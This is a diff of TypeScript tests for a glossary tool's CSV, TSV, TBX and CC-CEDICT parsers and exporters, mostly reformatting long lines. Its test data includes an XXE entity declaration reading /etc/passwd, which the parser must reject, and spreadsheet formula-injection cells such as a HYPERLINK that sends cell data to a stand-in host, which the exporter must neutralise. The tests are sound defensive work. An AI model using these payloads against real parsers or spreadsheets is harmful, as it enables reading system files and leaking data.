@@ -41,7 +41,8 @@ for (const format of FORMATS) {
     assert.deepEqual(problems, []);
     assert.equal(back.entries.length, 2);
     for (const [k, original] of [tricky, plain].entries()) {
-      const pick = (e: GlossaryEntry) => Object.fromEntries(holds[format.id].map((f) => [f, e[f]]).filter(([, v]) => v !== undefined));
+      const pick = (e: GlossaryEntry) =>
+        Object.fromEntries(holds[format.id].map((f) => [f, e[f]]).filter(([, v]) => v !== undefined));
       const read = { ...back.entries[k] };
       // CC-CEDICT lines always carry a traditional form; one is derived where the entry had none.
       if (format.id === 'cedict' && !original.traditional) delete (read as { traditional?: string }).traditional;
@@ -56,12 +57,18 @@ test('TSV keeps the note on one line (the format has no escaping)', () => {
   const tsv = formatForPath('x.tsv')!;
   const back = tsv.parse(tsv.serialize(glossary), 'x.tsv').glossary.entries[0];
   assert.equal(back.note, '注意：逗号, "引号" and a tab and a second line');
-  assert.equal(tsv.serialize(glossary).split('\n')[0], '压铸\tdie casting\t注意：逗号, "引号" and a tab and a second line');
+  assert.equal(
+    tsv.serialize(glossary).split('\n')[0],
+    '压铸\tdie casting\t注意：逗号, "引号" and a tab and a second line',
+  );
 });
 
 test('CSV with a header in another order and Chinese column names', () => {
   const csv = formatForPath('x.csv')!;
-  const { glossary: g, problems } = csv.parse('英文,中文,备注\r\n"die casting, HPDC",压铸,"line one\nline two"\r\n', 'x.csv');
+  const { glossary: g, problems } = csv.parse(
+    '英文,中文,备注\r\n"die casting, HPDC",压铸,"line one\nline two"\r\n',
+    'x.csv',
+  );
   assert.deepEqual(problems, []);
   assert.deepEqual(g.entries[0].en, ['die casting, HPDC']);
   assert.equal(g.entries[0].zh, '压铸');
@@ -69,8 +76,17 @@ test('CSV with a header in another order and Chinese column names', () => {
 });
 
 test('OmegaT TSV lines with the same source become one entry, renderings in order', () => {
-  const { glossary: g } = formatForPath('x.tsv')!.parse('压铸\tdie casting\tcomment\n压铸\tHPDC\n开模\ttooling\n', 'x.tsv');
-  assert.deepEqual(g.entries.map((e) => [e.zh, e.en, e.note]), [['压铸', ['die casting', 'HPDC'], 'comment'], ['开模', ['tooling'], undefined]]);
+  const { glossary: g } = formatForPath('x.tsv')!.parse(
+    '压铸\tdie casting\tcomment\n压铸\tHPDC\n开模\ttooling\n',
+    'x.tsv',
+  );
+  assert.deepEqual(
+    g.entries.map((e) => [e.zh, e.en, e.note]),
+    [
+      ['压铸', ['die casting', 'HPDC'], 'comment'],
+      ['开模', ['tooling'], undefined],
+    ],
+  );
 });
 
 test('TBX v2 (martif/termEntry/langSet/tig) with regional language tags and a forbidden term', () => {
@@ -88,7 +104,14 @@ test('TBX v2 (martif/termEntry/langSet/tig) with regional language tags and a fo
 </body></text></martif>`;
   const { glossary: g, problems } = formatForPath('x.tbx')!.parse(v2, 'x.tbx');
   assert.deepEqual(problems, []);
-  assert.deepEqual(g.entries[0], { id: 'c1', zh: '压铸', traditional: '壓鑄', en: ['die casting'], forbidden: ['pressure casting'], domain: 'die-casting' });
+  assert.deepEqual(g.entries[0], {
+    id: 'c1',
+    zh: '压铸',
+    traditional: '壓鑄',
+    en: ['die casting'],
+    forbidden: ['pressure casting'],
+    domain: 'die-casting',
+  });
 });
 
 test('malformed files are rejected with file, line and column', () => {
@@ -96,36 +119,74 @@ test('malformed files are rejected with file, line and column', () => {
   const broken = tbx.parse('<?xml version="1.0"?>\n<tbx>\n  <text><body>\n</tbx>\n', 'x.tbx').problems;
   assert.equal(broken.length, 1);
   assert.match(broken[0].message, /^x\.tbx:\d+:\d+ XML: /);
-  const entity = tbx.parse('<?xml version="1.0"?>\n<!DOCTYPE tbx [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<tbx/>', 'x.tbx').problems;
-  assert.deepEqual(entity.map((p) => p.message), ['x.tbx:3:3 entity declarations are not allowed in a TBX glossary']);
-  const noZh = tbx.parse('<tbx><text><body>\n<conceptEntry id="a"><langSec xml:lang="en"><termSec><term>x</term></termSec></langSec></conceptEntry></body></text></tbx>', 'x.tbx').problems;
-  assert.deepEqual(noZh.map((p) => p.message), ['x.tbx:2:1 concept has no Chinese term (zh, zh-Hans, zh-CN, zh-Hant, zh-TW or zh-HK)']);
+  const entity = tbx.parse(
+    '<?xml version="1.0"?>\n<!DOCTYPE tbx [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<tbx/>',
+    'x.tbx',
+  ).problems;
+  assert.deepEqual(
+    entity.map((p) => p.message),
+    ['x.tbx:3:3 entity declarations are not allowed in a TBX glossary'],
+  );
+  const noZh = tbx.parse(
+    '<tbx><text><body>\n<conceptEntry id="a"><langSec xml:lang="en"><termSec><term>x</term></termSec></langSec></conceptEntry></body></text></tbx>',
+    'x.tbx',
+  ).problems;
+  assert.deepEqual(
+    noZh.map((p) => p.message),
+    ['x.tbx:2:1 concept has no Chinese term (zh, zh-Hans, zh-CN, zh-Hant, zh-TW or zh-HK)'],
+  );
   const csv = formatForPath('x.csv')!.parse('zh,en\n压铸,die casting\n开模,"tooling\n', 'x.csv').problems;
   assert.ok(csv.length >= 1 && /^x\.csv:3:4 CSV: /.test(csv[0].message), csv.map((p) => p.message).join('\n'));
   const tsv = formatForPath('x.tsv')!.parse('压铸\tdie casting\n开模\n', 'x.tsv').problems;
-  assert.deepEqual(tsv.map((p) => p.message), ['x.tsv:2:4 "开模" has no English rendering in the second column']);
-  const u8 = formatForPath('x.u8')!.parse('# comment\n壓鑄 压铸 [ya1 zhu4] /die casting/\nnot a line\n', 'x.u8').problems;
-  assert.deepEqual(u8.map((p) => p.message), ['x.u8:3:1 not a CC-CEDICT line: expected "TRADITIONAL SIMPLIFIED [pin1 yin1] /english/…/"']);
+  assert.deepEqual(
+    tsv.map((p) => p.message),
+    ['x.tsv:2:4 "开模" has no English rendering in the second column'],
+  );
+  const u8 = formatForPath('x.u8')!.parse(
+    '# comment\n壓鑄 压铸 [ya1 zhu4] /die casting/\nnot a line\n',
+    'x.u8',
+  ).problems;
+  assert.deepEqual(
+    u8.map((p) => p.message),
+    ['x.u8:3:1 not a CC-CEDICT line: expected "TRADITIONAL SIMPLIFIED [pin1 yin1] /english/…/"'],
+  );
 });
 
 // ---- Issue 10, items 11–13: injection, exports and round trips --------------------------------
 
 const fmt = (id: string) => FORMATS.find((f) => f.id === id)!;
-const one = (e: Partial<GlossaryEntry> & Pick<GlossaryEntry, 'zh' | 'en'>): Glossary => ({ name: 'T', entries: [{ id: 'x', ...e }] });
+const one = (e: Partial<GlossaryEntry> & Pick<GlossaryEntry, 'zh' | 'en'>): Glossary => ({
+  name: 'T',
+  entries: [{ id: 'x', ...e }],
+});
 const roundTrip = (id: string, g: Glossary) => {
   const text = fmt(id).serialize(g);
   const { glossary: back, problems } = fmt(id).parse(text, `g${fmt(id).extensions[0]}`);
-  assert.deepEqual(problems.map((p) => p.message), [], text);
+  assert.deepEqual(
+    problems.map((p) => p.message),
+    [],
+    text,
+  );
   return { text, back: back.entries };
 };
 
-const formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+5 V', '-ing form', '@SUM(A1:A9)', "'s-Hertogenbosch", "'=quoted"];
+const formulas = [
+  '=HYPERLINK("http://x.example/?"&A1,"click")',
+  '+5 V',
+  '-ing form',
+  '@SUM(A1:A9)',
+  "'s-Hertogenbosch",
+  "'=quoted",
+];
 
 test('CSV neutralises formula cells (quote prefix, quoted cell) and reads every text back as it was', () => {
   const { text, back } = roundTrip('csv', one({ zh: '压铸', en: formulas, note: '=1+1', category: '-', domain: '@x' }));
   // Read with papaparse alone (no prefix removal): no cell a spreadsheet would run is left.
   const cells = Papa.parse<string[]>(text).data.flat();
-  assert.deepEqual(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), []);
+  assert.deepEqual(
+    cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
+    [],
+  );
   assert.ok(text.includes(`"'=1+1"`) && text.includes(`"'-"`) && text.includes(`"'@x"`), text);
   assert.ok(text.includes(`"'=HYPERLINK(""http://x.example/?""&A1,""click"") | +5 V | -ing form`), text);
   assert.deepEqual(back[0].en, formulas);
@@ -135,17 +196,26 @@ test('CSV neutralises formula cells (quote prefix, quoted cell) and reads every 
 });
 
 test('TSV neutralises formula cells and terms that would start a comment, and reads them back', () => {
-  const entries = [{ id: 'a', zh: '#标签', en: formulas, note: '+note' }, { id: 'b', zh: '=压铸', en: ['x'] }];
+  const entries = [
+    { id: 'a', zh: '#标签', en: formulas, note: '+note' },
+    { id: 'b', zh: '=压铸', en: ['x'] },
+  ];
   const g: Glossary = { name: 'T', entries };
   const { text, back } = roundTrip('tsv', g);
   for (const line of text.trim().split('\n')) {
     assert.ok(!line.startsWith('#'), line);
     for (const cell of line.split('\t')) assert.ok(!/^[=+\-@]/.test(cell), `${cell} in ${text}`);
   }
-  assert.deepEqual(back.map((e) => [e.zh, e.en, e.note]), entries.map((e) => [e.zh, e.en, e.note]));
+  assert.deepEqual(
+    back.map((e) => [e.zh, e.en, e.note]),
+    entries.map((e) => [e.zh, e.en, e.note]),
+  );
   // A line the user commented out stays a comment.
   const commented = fmt('tsv').parse('#压铸\tdie casting\n开模\ttooling\n', 'x.tsv').glossary;
-  assert.deepEqual(commented.entries.map((e) => e.zh), ['开模']);
+  assert.deepEqual(
+    commented.entries.map((e) => e.zh),
+    ['开模'],
+  );
 });
 
 test('CSV keeps renderings and aliases that contain "|", "[", "]" and backslashes', () => {
